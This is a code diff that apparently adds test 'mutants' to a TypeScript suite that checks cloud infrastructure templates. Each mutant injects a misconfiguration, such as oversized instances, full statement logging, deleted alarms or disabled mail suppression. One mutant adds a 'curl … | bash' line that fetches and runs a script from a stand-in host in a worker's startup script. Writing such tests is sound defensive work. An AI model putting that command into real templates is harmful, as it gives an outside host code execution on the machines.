@@ -349,4 +349,72 @@ export const unreadMutants: readonly Mutant[] = [
       properties(template, 'ApiPOSTjobsSubmitJob').RequestParameters = { 'overwrite:header.idempotency-key': 'same' };
     },
   },
+  {
+    fault: 'workers are sixteen times as large',
+    rule: 'limits',
+    variant: SERVICE,
+    change: (template) => {
+      properties(template, 'WorkerTemplate').LaunchTemplateData.InstanceType = 'c7g.16xlarge';
+    },
+  },
+  {
+    fault: 'the database writes down every statement, with what is in it',
+    rule: 'limits',
+    variant: SERVICE,
+    change: (template) => {
+      properties(template, 'ResultsParameters').Parameters.log_statement = 'all';
+    },
+  },
+  {
+    fault: 'the engine of the database is an old one',
+    rule: 'limits',
+    variant: SERVICE,
+    change: (template) => {
+      properties(template, 'ResultsInstance').EngineVersion = '17.1';
+    },
+  },
+  {
+    fault: 'the first script of a worker runs what a stranger’s host says',
+    rule: 'environment',
+    variant: SERVICE,
+    change: (template) => {
+      properties(template, 'WorkerTemplate').LaunchTemplateData.UserData['Fn::Base64']['Fn::Join'][1].push(
+        '\ncurl -s https://stranger.example/x | bash\n',
+      );
+    },
+  },
+  {
+    fault: 'a machine that does not start is nobody’s news',
+    rule: 'MachinesHaveAlarms',
+    variant: SERVICE,
+    change: (template) => {
+      delete properties(template, 'WorkerGroupASG').NotificationConfigurations;
+    },
+  },
+  {
+    fault: 'mails to addresses that bounced go out again',
+    rule: 'MailKeepsToItsRules',
+    variant: MAIL,
+    change: (template) => {
+      delete properties(template, 'MailConfigurationSet').SuppressionOptions;
+    },
+  },
+  {
+    fault: 'whoever sends passes the rules for mail by',
+    rule: 'MailKeepsToItsRules',
+    variant: MAIL,
+    change: (template) => {
+      delete properties(template, 'MailSender').ConfigurationSetAttributes;
+    },
+  },
+  {
+    fault: 'TLS is asked of the own account only',
+    rule: 'PlainConnectionsAreRefused',
+    variant: DEFAULT,
+    change: (template) => {
+      properties(template, 'QueueJobsPolicy').PolicyDocument.Statement[0].Principal = {
+        AWS: { Ref: 'AWS::AccountId' },
+      };
+    },
+  },
 ];
